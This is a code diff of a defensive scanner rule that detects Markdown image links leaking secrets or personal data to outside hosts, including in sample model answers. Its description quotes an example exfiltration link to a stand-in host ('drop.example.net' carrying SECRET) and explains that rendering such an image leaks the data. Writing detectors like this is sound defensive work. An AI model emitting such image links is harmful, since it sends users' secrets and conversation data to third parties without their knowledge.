@@ -2,8 +2,9 @@ import { isOutside } from '../chains.js'
 import { isLesson } from '../conclusions/lesson.js'
 import type { Evidence } from '../evidence.js'
 import { readAddress } from '../facts/address.js'
+import { slotsIn } from '../facts/intent/vocabulary.js'
 import type { Observation, Rule } from '../rule.js'
-import { isMention } from '../text/mention.js'
+import { isMention } from '../text/framing/mention.js'
 
 export const rule: Rule = {
   id: 'SK-EX004',
@@ -26,7 +27,8 @@ export const rule: Rule = {
       'Image Markdown such as `![x](https://drop.example.net/p?d=SECRET)` leaks when a client renders it.\n',
     ],
   },
-  find: (evidence: Evidence) => evidence.passages.flatMap(({ segment }) => judge(segment, isLesson(evidence))),
+  find: (evidence: Evidence) =>
+    evidence.passages.flatMap(({ segment }) => [...judge(segment, isLesson(evidence)), ...judgeSample(segment)]),
 }
 
 const IMAGE = /!\[[^\]\n]{0,200}\]\((https?:\/\/[^)\n]{4,400})\)/g
@@ -36,11 +38,37 @@ const NAMED = /[?&]\w{1,20}=(?:[A-Z][A-Z_]{3,30}|\$\w{2,30}|\[[^\]\n]{2,40}\])(?
 /** Part of a path in a repository. */
 const TEMPLATE = /^[^?]{0,300}\{(?:owner|org|repo|user|username|branch|path|file|filename|name|version|project)\}/i
 
+const HOLE = /[<{[]([^<>{}[\]\n]{1,80})[>}\]]/g
+
+/** A part to be filled in with someone's data, in any language of the grammar. */
+function hasPrivateHole(url: string): boolean {
+  const query = url.slice(Math.max(0, url.search(/[?#]/)))
+  return [...query.matchAll(HOLE)].some(([, hole = '']) => {
+    const slots = slotsIn(hole)
+    return slots.has('talk') || slots.has('personal') || slots.has('secret')
+  })
+}
+
+/** No one sees a picture without a name; its address reports on the person who gets the answer. */
+const NAMELESS = /!\[\]\((https?:\/\/[^)\s?]{4,200}\?\w{1,20}=[^)\s&]{2,80}(?:&\w{1,20}=[^)\s&]{2,80}){1,8})\)/g
+const PICTURED =
+  /[?&](?:width|height|w|h|size|style|theme|color|format|repos?|type|fit|crop|quality|q|v|version|label|logo)=/i
+
+function judgeSample(segment: Evidence['segments'][number]): readonly Observation[] {
+  if (segment.kind !== 'field') return []
+  return [...segment.text.matchAll(NAMELESS)].flatMap(({ index, 1: url = '' }): readonly Observation[] => {
+    const address = readAddress(url)
+    if (PICTURED.test(url) || address === undefined || address.kind === 'code' || !isOutside(address)) return []
+    const message = `A sample answer shows a picture that reports to ${address.host}`
+    return [{ segment, at: index, severity: 'warn', message }]
+  })
+}
+
 function judge(segment: Evidence['segments'][number], isTaught: boolean): readonly Observation[] {
   const found: Observation[] = []
   for (const { index, 1: url = '' } of segment.text.matchAll(IMAGE)) {
     const address = readAddress(url)
-    const isFilled = FILLED.test(url) || NAMED.test(url)
+    const isFilled = FILLED.test(url) || NAMED.test(url) || hasPrivateHole(url)
     const isTemplate = address?.kind === 'code' && TEMPLATE.test(url)
     if (!isFilled || isTemplate || !isOutside(address) || address?.host === 'img.shields.io') continue
     if (isMention(segment.text, index) || (isTaught && segment.text.charAt(index - 1) === '`')) continue
